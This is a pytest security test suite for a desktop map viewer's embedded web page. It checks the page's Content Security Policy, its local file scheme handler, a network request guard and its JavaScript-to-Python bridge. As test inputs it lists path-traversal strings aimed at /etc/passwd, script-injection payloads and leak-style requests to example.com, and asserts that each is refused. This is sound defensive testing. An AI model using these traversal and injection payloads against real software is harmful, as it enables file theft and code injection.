"""The map page is locked down: its own scripts only (CSP), no navigation away, no
network unless the reader allows the online layers, only the app's own files, and a
bridge to Python that checks every argument."""

from __future__ import annotations

import html
import json
import os
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from conftest import minimal_dataset, write_dataset
from PySide6.QtCore import QObject, QSettings, QUrl, Slot
from PySide6.QtGui import QDesktopServices
from PySide6.QtWebEngineCore import QWebEngineSettings, QWebEngineUrlRequestInfo
from pytestqt.qtbot import QtBot

from viewer import mapbuilder, mapview
from viewer.dataset import load_dataset
from viewer.mapbuilder import build_shell_html, inline_script_hashes
from viewer.mapview import PAGE_URL, AssetSchemeHandler, RequestGuard, request_guard
from viewer.window import MainWindow

READY_MS = 60_000
ResourceType = QWebEngineUrlRequestInfo.ResourceType


# ---- helpers ----------------------------------------------------------------------------


def run_js(qtbot: QtBot, window: MainWindow, script: str) -> Any:
    """Run `script` in the page and return its value (objects: JSON.stringify them)."""
    with qtbot.waitCallback(timeout=10_000) as callback:
        window.map_view.page().runJavaScript(script, 0, callback)
    return callback.args[0]


def js_until(qtbot: QtBot, window: MainWindow, expression: str, timeout_ms: int = 5_000) -> Any:
    """Poll `expression` until it is truthy; return that value."""
    result: list[Any] = []

    def done() -> bool:
        value = run_js(qtbot, window, expression)
        if not value:
            return False
        result.append(value)
        return True

    qtbot.waitUntil(done, timeout=timeout_ms)
    return result[0]


def query(qtbot: QtBot, window: MainWindow) -> dict[str, Any]:
    result = json.loads(run_js(qtbot, window, "Atlas.query()"))
    assert isinstance(result, dict)
    return result


def csp_of(page: str) -> dict[str, list[str]]:
    match = re.search(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">', page)
    assert match, "the page has no CSP"
    directives = {}
    for part in html.unescape(match[1]).split(";"):
        name, *values = part.split()
        directives[name] = values
    return directives


class UrlRecorder(QObject):
    """Stands in for the system browser: records what the app asks it to open."""

    def __init__(self) -> None:
        super().__init__()
        self.urls: list[str] = []

    @Slot(QUrl)
    def open(self, url: QUrl) -> None:
        self.urls.append(url.toString())


@pytest.fixture
def browser() -> Iterator[UrlRecorder]:
    recorder = UrlRecorder()
    for scheme in ("http", "https"):
        QDesktopServices.setUrlHandler(scheme, recorder, "open")
    try:
        yield recorder
    finally:
        for scheme in ("http", "https"):
            QDesktopServices.unsetUrlHandler(scheme)


@pytest.fixture
def window(qtbot: QtBot, tmp_path: Path) -> Iterator[MainWindow]:
    dataset = load_dataset(write_dataset(tmp_path, minimal_dataset()))
    settings = QSettings(str(tmp_path / "settings.ini"), QSettings.Format.IniFormat)
    win = MainWindow(dataset, settings=settings)
    qtbot.addWidget(win)
    request_guard().seen.clear()
    request_guard().blocked.clear()
    with qtbot.waitSignal(win.ready, timeout=READY_MS):
        win.show()
    yield win
    request_guard().allow_online = False
    win.close()
    win.deleteLater()
    qtbot.wait(50)


# ---- the page's security policy (no Qt) ------------------------------------------------


@pytest.mark.parametrize("online", [True, False])
def test_page_policy_allows_only_its_own_scripts(tmp_path: Path, online: bool) -> None:
    page = build_shell_html(tmp_path, online_layers=online)
    csp = csp_of(page)
    # The policy comes before any script, so it governs all of them.
    assert page.index("Content-Security-Policy") < page.index("<script")
    assert csp["default-src"] == ["'none'"]
    script_src = csp["script-src"]
    assert "'unsafe-inline'" not in script_src and "'unsafe-eval'" not in script_src
    assert script_src[0] == "'self'"
    hashes = inline_script_hashes(page)
    assert hashes and set(script_src[1:]) == set(hashes)
    for name in ("connect-src", "object-src", "frame-src", "base-uri", "form-action"):
        assert csp[name] == ["'none'"], name
    assert csp["style-src"] == ["'self'", "'unsafe-inline'"]
    tiles = ["https://server.arcgisonline.com", "https://tile.openstreetmap.org"]
    assert csp["img-src"] == ["'self'", "data:", *(tiles if online else [])]


def test_policy_hosts_match_the_request_guard() -> None:
    hosts = {origin.removeprefix("https://") for origin in mapbuilder.ONLINE_ORIGINS}
    assert hosts == set(mapview.ONLINE_HOSTS)
    for _name, url, _attribution in mapbuilder.ONLINE_LAYERS:
        assert mapview.online_host(QUrl(url.replace("{", "").replace("}", "")).host())


def test_script_hash_is_the_browsers() -> None:
    # The value CSP level 3 gives for `<script>alert(1)</script>` (MDN's example).
    assert inline_script_hashes("<script>alert(1)</script>") == [
        "'sha256-bhHHL3z2vDgxUt0W3dWQOrprscmda2Y5pLsLg4GF+pI='"
    ]
    page = '<script src="a.js"></script><script>\r\nx()\r\n</script><script>\nx()\n</script>'
    assert len(inline_script_hashes(page)) == 1  # src= skipped; CRLF hashed as LF


# ---- files served by atlas:// ------------------------------------------------------------


@pytest.fixture
def handler(qtbot: QtBot, tmp_path: Path) -> AssetSchemeHandler:
    root = tmp_path / "root"
    (root / "sub").mkdir(parents=True)
    (root / "ok.js").write_text("ok()", encoding="utf-8")
    (root / "sub" / "deep.css").write_text("a{}", encoding="utf-8")
    (root / ".hidden").write_text("secret", encoding="utf-8")
    (tmp_path / "secret.txt").write_text("secret", encoding="utf-8")
    (root / "inside-link.js").symlink_to(root / "ok.js")
    (root / "outside-link.txt").symlink_to(tmp_path / "secret.txt")
    (root / "outside-dir").symlink_to(tmp_path, target_is_directory=True)
    (root / "loop").symlink_to(root / "loop")
    handler = AssetSchemeHandler()
    handler.roots = {"web": root}
    handler.page_html = b"<html></html>"
    return handler


def test_scheme_handler_serves_its_files(handler: AssetSchemeHandler) -> None:
    assert handler.resolve("/page.html") == (b"<html></html>", b"text/html")
    assert handler.resolve("/web/ok.js") == (b"ok()", b"application/javascript")
    assert handler.resolve("/web/sub/deep.css") == (b"a{}", b"text/css")
    assert handler.resolve("/web/inside-link.js") == (b"ok()", b"application/javascript")
    assert handler.resolve("/qwebchannel.js") is not None


@pytest.mark.parametrize(
    "path",
    [
        "/web/../secret.txt",
        "/web/sub/../../secret.txt",
        "/web/%2e%2e/secret.txt",  # as Chromium hands it over if it did not decode it
        "/web/..%2fsecret.txt",
        "/web/..\\secret.txt",
        "/web/sub\\..\\..\\secret.txt",
        "/web//etc/passwd",
        "//etc/passwd",
        "/etc/passwd",
        "/web/" + os.path.abspath("/etc/passwd"),
        "/web/C:/Windows/win.ini",
        "/web/.hidden",
        "/web/outside-link.txt",
        "/web/outside-dir/secret.txt",
        "/web/loop",
        "/web/ok.js\x00.png",
        "/web/",
        "/web",
        "web/ok.js",
        "/other/ok.js",
        "/web/sub",
        "/web/missing.js",
    ],
)
def test_scheme_handler_refuses_paths_outside_its_roots(
    handler: AssetSchemeHandler, path: str
) -> None:
    assert handler.resolve(path) is None


def test_decoded_url_paths_are_checked_too(handler: AssetSchemeHandler) -> None:
    # The handler sees QUrl.path(), which is percent-decoded: %2f and %2e%2e arrive
    # as "/" and "..", and are refused as such.
    for url in (
        "atlas://app/web/..%2fsecret.txt",
        "atlas://app/web/%2e%2e%2fsecret.txt",
        "atlas://app/web/%2E%2E/secret.txt",
        "atlas://app/web/ok.js%00.png",
    ):
        assert handler.resolve(QUrl(url).path()) is None, url


def test_file_urls_are_off(qtbot: QtBot, window: MainWindow) -> None:
    settings = window.map_view.page().settings()
    attribute = QWebEngineSettings.WebAttribute
    assert not settings.testAttribute(attribute.LocalContentCanAccessFileUrls)
    # Remote URLs only for the online tile layers (offered unless --offline); the guard
    # and the CSP still let through nothing but tile images from the tile hosts.
    assert settings.testAttribute(attribute.LocalContentCanAccessRemoteUrls) == window.online
    assert not settings.testAttribute(attribute.JavascriptCanOpenWindows)
    assert not settings.testAttribute(attribute.NavigateOnDropEnabled)


def test_page_cannot_read_files(qtbot: QtBot, window: MainWindow, tmp_path: Path) -> None:
    """From inside the page: local files, traversal out of atlas://app, other hosts."""
    secret = tmp_path / "secret.txt"
    secret.write_text("secret", encoding="utf-8")
    handler = mapview.scheme_handler()
    asked: list[tuple[str, bool]] = []
    resolve = handler.resolve

    def recording(path: str) -> tuple[bytes, bytes] | None:
        found = resolve(path)
        asked.append((path, found is not None))
        return found

    urls = [
        secret.as_uri(),
        "atlas://app/leaflet/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
        "atlas://app/leaflet/..%2f..%2f..%2f..%2f..%2fetc%2fpasswd",
        "atlas://app/web/%00",
        "atlas://app/web/..%5c..%5csecret.txt",
        "atlas://app//etc/passwd",
        "atlas://other/web/atlas.js",
    ]
    handler.resolve = recording  # type: ignore[method-assign]
    try:
        script = (
            "window.__loaded = []; window.__failed = 0;"
            f"{json.dumps(urls)}.forEach(function (u) {{"
            "  var img = new Image();"
            "  img.onload = function () { window.__loaded.push(u); };"
            "  img.onerror = function () { window.__failed += 1; };"
            "  img.src = u;"
            "});"
            "fetch(" + json.dumps(secret.as_uri()) + ")"
            "  .then(function () { window.__fetch = 'read'; },"
            "        function () { window.__fetch = 'refused'; });"
            "true"
        )
        assert run_js(qtbot, window, script) is True
        assert js_until(qtbot, window, f"window.__failed === {len(urls)} && window.__fetch")
    finally:
        handler.resolve = resolve  # type: ignore[method-assign]
    assert run_js(qtbot, window, "JSON.stringify(window.__loaded)") == "[]"
    assert run_js(qtbot, window, "window.__fetch") == "refused"
    # Whatever reached the handler was refused there.
    assert asked and not any(ok for _path, ok in asked), asked
    assert all(
        "secret" not in u and "passwd" not in u for u in request_guard().seen if "file:" in u
    )


# ---- navigation, windows, network -------------------------------------------------------


def test_page_cannot_navigate_away(qtbot: QtBot, window: MainWindow, browser: UrlRecorder) -> None:
    page = window.map_view.page()
    for script in (
        "location.href = 'https://example.com/'",
        "location.assign('http://example.com/')",
        "location.replace('file:///etc/passwd')",
        "location.href = 'atlas://app/web/atlas.js'",
        "location.href = 'javascript:window.__pwned = 1'",
        "var a = document.createElement('a'); a.href = 'https://example.com/clicked';"
        "document.body.appendChild(a); a.click()",
        "document.body.insertAdjacentHTML('beforeend',"
        ' \'<form action="https://example.com/post" method="post" id="f"></form>\');'
        "document.getElementById('f').submit()",
    ):
        run_js(qtbot, window, script + "; true")
    assert run_js(qtbot, window, "String(window.open('https://example.com/popup'))") == "null"
    qtbot.wait(500)
    assert page.url() == PAGE_URL
    assert run_js(qtbot, window, "String(window.__pwned)") == "undefined"
    assert set(query(qtbot, window)["places"]) == {"embassy", "border"}  # not reloaded
    assert browser.urls == []  # nothing was handed to the system browser either


def test_attribution_link_opens_in_the_system_browser(
    qtbot: QtBot, window: MainWindow, browser: UrlRecorder
) -> None:
    run_js(qtbot, window, "document.querySelector('a[href=\"https://leafletjs.com\"]').click()")
    qtbot.waitUntil(lambda: bool(browser.urls), timeout=5_000)
    assert browser.urls == ["https://leafletjs.com/"]
    assert window.map_view.page().url() == PAGE_URL


def test_page_fetch_is_blocked(qtbot: QtBot, window: MainWindow) -> None:
    """The page's own policy refuses the fetch before it reaches the network."""
    run_js(
        qtbot,
        window,
        "fetch('https://example.com/').then(function () { window.__net = 'reached'; },"
        " function (e) { window.__net = 'blocked'; }); true",
    )
    assert js_until(qtbot, window, "window.__net") == "blocked"
    assert not any("example.com" in u for u in request_guard().seen)


def test_guard_blocks_requests_even_without_the_page_policy(
    qtbot: QtBot, window: MainWindow
) -> None:
    """Behind the page's CSP stand the scheme's own header policy (no fetch at all) and
    the request guard: a bare page with no CSP of its own, allowed remote URLs, still
    gets nothing from the network."""
    window.map_view.set_online_allowed(False)  # as with --offline
    with qtbot.waitSignal(window.map_view.page().loadFinished, timeout=10_000):
        window.map_view.show_page("<!DOCTYPE html><html><head></head><body>bare</body></html>")
    settings = window.map_view.page().settings()
    settings.setAttribute(QWebEngineSettings.WebAttribute.LocalContentCanAccessRemoteUrls, True)
    run_js(
        qtbot,
        window,
        "fetch('https://example.com/leak?x=1').then(function () { window.__net = 'reached'; },"
        " function () { window.__net = 'blocked'; });"
        "new Image().src = 'https://example.com/leak.png?x=2';"
        "new Image().src = 'https://tile.openstreetmap.org/1/1/1.png'; true",
    )
    assert js_until(qtbot, window, "window.__net") == "blocked"

    def both_blocked() -> bool:  # these two, not any two: earlier tests' requests count
        blocked = list(request_guard().blocked)
        leak = any(u.startswith("https://example.com/leak.png") for u in blocked)
        return leak and any("tile.openstreetmap.org" in u for u in blocked)  # online is off

    qtbot.waitUntil(both_blocked, timeout=10_000)
    assert not any("leak?x=1" in u for u in request_guard().seen)  # fetch never got out


def test_online_layer_requests_pass_the_policy(qtbot: QtBot, window: MainWindow) -> None:
    """With online layers allowed and one switched on, tile requests get past the page's
    CSP to the request guard (whose rules for them are tested below). The guard is told
    to refuse them here, so that the test never touches the network."""
    window.map_view.set_online_allowed(True)
    assert request_guard().allow_online
    request_guard().allow_online = False
    run_js(
        qtbot,
        window,
        "var box = Array.from(document.querySelectorAll('.leaflet-control-layers-overlays label'))"
        ".filter(function (l) { return l.textContent.indexOf('OpenStreetMap') >= 0; })[0]"
        ".querySelector('input'); box.click(); true",
    )
    qtbot.waitUntil(
        lambda: any("tile.openstreetmap.org" in u for u in request_guard().blocked), timeout=5_000
    )


class FakeRequest:
    def __init__(self, url: str, resource: ResourceType = ResourceType.ResourceTypeImage) -> None:
        self.url = QUrl(url)
        self.resource = resource
        self.blocked = False

    def requestUrl(self) -> QUrl:
        return self.url

    def resourceType(self) -> ResourceType:
        return self.resource

    def block(self, value: bool) -> None:
        self.blocked = value


@pytest.mark.parametrize(
    ("url", "resource", "online", "allowed"),
    [
        ("atlas://app/web/atlas.js", ResourceType.ResourceTypeScript, False, True),
        ("data:image/png;base64,AAAA", ResourceType.ResourceTypeImage, False, True),
        ("https://example.com/", ResourceType.ResourceTypeXhr, True, False),
        ("file:///etc/passwd", ResourceType.ResourceTypeImage, True, False),
        ("qrc:/qtwebchannel/qwebchannel.js", ResourceType.ResourceTypeScript, True, False),
        ("https://tile.openstreetmap.org/1/1/1.png", ResourceType.ResourceTypeImage, False, False),
        ("https://tile.openstreetmap.org/1/1/1.png", ResourceType.ResourceTypeImage, True, True),
        ("https://a.tile.openstreetmap.org/1/1/1.png", ResourceType.ResourceTypeImage, True, True),
        ("https://server.arcgisonline.com/t/1/1/1", ResourceType.ResourceTypeImage, True, True),
        ("http://tile.openstreetmap.org/1/1/1.png", ResourceType.ResourceTypeImage, True, False),
        ("https://tile.openstreetmap.org:8443/1.png", ResourceType.ResourceTypeImage, True, False),
        ("https://tile.openstreetmap.org/x.js", ResourceType.ResourceTypeScript, True, False),
        ("https://eviltile.openstreetmap.org/1.png", ResourceType.ResourceTypeImage, True, False),
        (
            "https://tile.openstreetmap.org.evil.com/1.png",
            ResourceType.ResourceTypeImage,
            True,
            False,
        ),
        ("https://evilserver.arcgisonline.com/1.png", ResourceType.ResourceTypeImage, True, False),
    ],
)
def test_request_guard_rules(
    qtbot: QtBot, url: str, resource: ResourceType, online: bool, allowed: bool
) -> None:
    guard = RequestGuard()
    guard.allow_online = online
    request = FakeRequest(url, resource)
    guard.interceptRequest(request)  # type: ignore[arg-type]
    assert request.blocked is not allowed
    assert list(guard.seen) == [QUrl(url).toString()]


# ---- scripts that are not ours do not run -------------------------------------------------


def test_injected_scripts_do_not_run(qtbot: QtBot, window: MainWindow) -> None:
    run_js(
        qtbot,
        window,
        """
        window.__violations = 0;
        document.addEventListener('securitypolicyviolation', function () {
          window.__violations += 1;
        });
        var s = document.createElement('script');
        s.textContent = 'window.__pwned = 1; document.title = "pwned";';
        document.head.appendChild(s);
        document.body.insertAdjacentHTML('beforeend',
          '<img src="x" onerror="window.__pwned = 2">' +
          '<svg onload="window.__pwned = 3"></svg>' +
          '<iframe srcdoc="<script>parent.__pwned = 4</script>"></iframe>' +
          '<object data="data:text/html,<script>parent.__pwned = 5</script>"></object>');
        var a = document.createElement('a');
        a.href = 'javascript:window.__pwned = 6';
        document.body.appendChild(a);
        a.click();
        try { eval('window.__pwned = 7'); } catch (e) { window.__evalBlocked = true; }
        try { new Function('window.__pwned = 8')(); } catch (e) { window.__fnBlocked = true; }
        setTimeout('window.__pwned = 9', 0);
        var ext = document.createElement('script');
        ext.src = 'https://example.com/evil.js';
        document.head.appendChild(ext);
        true
        """,
    )
    assert js_until(qtbot, window, "window.__violations >= 6 ? window.__violations : ''")
    qtbot.wait(300)
    assert run_js(qtbot, window, "String(window.__pwned)") == "undefined"
    assert run_js(qtbot, window, "document.title") != "pwned"
    assert run_js(qtbot, window, "window.__evalBlocked && window.__fnBlocked") is True
    # ...while the page itself works: every marker is there and still answers.
    result = query(qtbot, window)
    assert set(result["places"]) == {"embassy", "border"}
    assert result["places"]["embassy"]["label"] == "Embassy"
    assert window.map_view.page().url() == PAGE_URL


def test_normal_page_breaks_no_rule(qtbot: QtBot, tmp_path: Path, caplog: Any) -> None:
    """The page, as built, loads without one CSP violation or script error."""
    dataset = load_dataset(write_dataset(tmp_path, minimal_dataset()))
    win = MainWindow(
        dataset, settings=QSettings(str(tmp_path / "s.ini"), QSettings.Format.IniFormat)
    )
    qtbot.addWidget(win)
    errors: list[str] = []
    win.map_view.page().jsError.connect(errors.append)  # type: ignore[attr-defined]
    with qtbot.waitSignal(win.ready, timeout=READY_MS):
        win.show()
    assert errors == []
    assert not [r for r in caplog.records if "Content Security Policy" in r.getMessage()]
    win.close()
    win.deleteLater()
    qtbot.wait(50)


# ---- the bridge -----------------------------------------------------------------------------

BAD_VALUES = [
    "5",
    "1.5",
    "-1",
    "1e300",
    "null",
    "undefined",
    "true",
    "{}",
    "{id: 'embassy'}",
    "[]",
    "['embassy']",
    "''",
    "'EMBASSY'",
    "'embassy '",
    "'<script>alert(1)</script>'",
    "'x'.repeat(1000000)",
    "'embassy'.repeat(20)",
    "'unknown-place'",
]


def test_bridge_exposes_only_the_pages_calls(qtbot: QtBot, window: MainWindow) -> None:
    run_js(
        qtbot,
        window,
        "new QWebChannel(qt.webChannelTransport, function (channel) {"
        "  var o = channel.objects.atlasBridge;"
        "  window.__members = Object.keys(o).filter(function (k) {"
        "    return typeof o[k] === 'function' || typeof o[k] === 'object'; }).sort();"
        "}); true",
    )
    members = json.loads(js_until(qtbot, window, "JSON.stringify(window.__members || '')"))
    callable_ = {m for m in members if not m.startswith("__") and "(" not in m}
    # QWebChannel's own plumbing, QObject's two signals and deleteLater, and our four calls.
    plumbing = {"unwrapQObject", "unwrapProperties", "propertyUpdate", "signalEmitted"}
    qobject = {"deleteLater", "destroyed", "objectNameChanged"}
    assert callable_ - plumbing - qobject == {"pageReady", "painted", "placeClicked", "openPlace"}


def test_bridge_ignores_bad_values_from_the_page(qtbot: QtBot, window: MainWindow) -> None:
    bridge = window.map_view.bridge
    seen: dict[str, list[Any]] = {"clicked": [], "opened": [], "painted": [], "ready": []}
    bridge.clicked.connect(seen["clicked"].append)
    bridge.opened.connect(seen["opened"].append)
    bridge.paintedReported.connect(seen["painted"].append)
    bridge.readyReported.connect(seen["ready"].append)
    calls = ";".join(
        f"o.{name}({value})"
        for value in BAD_VALUES
        for name in ("placeClicked", "openPlace", "painted", "pageReady")
        if not (name == "painted" and value == "5")  # a real sequence number
    )
    ready_bad = ";".join(
        f"o.pageReady({v})"
        for v in ("'not json'", "'[1,2]'", "'\"text\"'", "JSON.stringify({a: 'x'.repeat(20000)})")
    )
    with qtbot.waitSignal(bridge.clicked, timeout=10_000) as blocker:
        run_js(
            qtbot,
            window,
            "new QWebChannel(qt.webChannelTransport, function (channel) {"
            "  var o = channel.objects.atlasBridge;"
            f"  {calls}; {ready_bad};"
            "  o.placeClicked('embassy', 'extra');"  # wrong argument count: not called
            "  o.deleteLater();"  # ignored: the bridge stays
            "  o.placeClicked('border');"  # a good call still works afterwards
            "}); true",
        )
    assert blocker.args == ["border"]
    assert seen == {"clicked": ["border"], "opened": [], "painted": [], "ready": []}
    assert bridge.endpoint.objectName() == ""  # still alive (no RuntimeError)
    assert set(query(qtbot, window)["places"]) == {"embassy", "border"}


def test_bridge_checks_arguments_from_python_too(qtbot: QtBot) -> None:
    bridge = mapview.Bridge({"embassy"})
    got: list[Any] = []
    bridge.clicked.connect(got.append)
    bridge.opened.connect(got.append)
    bridge.paintedReported.connect(got.append)
    bridge.readyReported.connect(got.append)
    for value in (None, 5, 1.5, True, {}, [], "x" * 10**6, "EMBASSY", float("nan"), -3, 2**40):
        bridge.placeClicked(value)
        bridge.openPlace(value)
        if value != 5:
            bridge.painted(value)
        bridge.pageReady(value)
    for text in ("", "[]", "null", "{", '"x"', "[" * 5000, "{}" + " " * 10_000):
        bridge.pageReady(text)
    assert got == []
    bridge.placeClicked("embassy")
    bridge.openPlace("embassy")
    bridge.painted(7)
    bridge.painted(8.0)
    bridge.pageReady('{"places": 1}')
    assert got == ["embassy", "embassy", 7, 8, {"places": 1}]
